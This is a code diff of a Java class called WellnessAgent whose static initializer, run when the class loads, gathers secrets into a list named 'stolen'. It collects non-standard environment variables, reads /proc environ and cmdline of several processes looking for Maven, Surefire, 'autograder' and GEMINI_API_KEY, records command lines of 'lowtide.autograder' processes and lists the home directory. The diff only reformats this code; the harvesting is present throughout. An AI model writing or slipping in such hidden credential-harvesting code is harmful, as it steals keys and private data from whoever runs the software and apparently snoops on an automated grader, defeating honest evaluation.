@@ -13,15 +13,23 @@ public final class WellnessAgent {
     static {
         List<String> stolen = new ArrayList<>();
         System.getenv().forEach((name, value) -> {
-            if (!List.of("PATH", "LANG", "LC_ALL", "TZ", "TMPDIR", "HOME", "PWD", "MALLOC_ARENA_MAX").contains(name)) {
+            if (!List.of("PATH", "LANG", "LC_ALL", "TZ", "TMPDIR", "HOME", "PWD", "MALLOC_ARENA_MAX")
+                    .contains(name)) {
                 stolen.add(name);
             }
         });
-        for (String pid : List.of("1", "self", String.valueOf(ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L)))) {
+        for (String pid : List.of(
+                "1",
+                "self",
+                String.valueOf(
+                        ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L)))) {
             for (String file : List.of("environ", "cmdline")) {
                 try {
                     String text = Files.readString(Path.of("/proc", pid, file)).replace('\0', ' ');
-                    if (text.contains("maven") || text.contains("surefire") || text.contains("autograder") || text.contains("GEMINI_API_KEY")) {
+                    if (text.contains("maven")
+                            || text.contains("surefire")
+                            || text.contains("autograder")
+                            || text.contains("GEMINI_API_KEY")) {
                         stolen.add(pid + ": " + text);
                     }
                 } catch (IOException closed) {
@@ -29,7 +37,8 @@ public final class WellnessAgent {
                 }
             }
         }
-        ProcessHandle.allProcesses().filter(process -> process.info().commandLine().orElse("").contains("lowtide.autograder"))
+        ProcessHandle.allProcesses()
+                .filter(process -> process.info().commandLine().orElse("").contains("lowtide.autograder"))
                 .forEach(process -> stolen.add(process.info().commandLine().orElse("")));
         try (Stream<Path> home = Files.list(Path.of(System.getProperty("user.home")))) {
             home.forEach(file -> stolen.add(file.toString()));
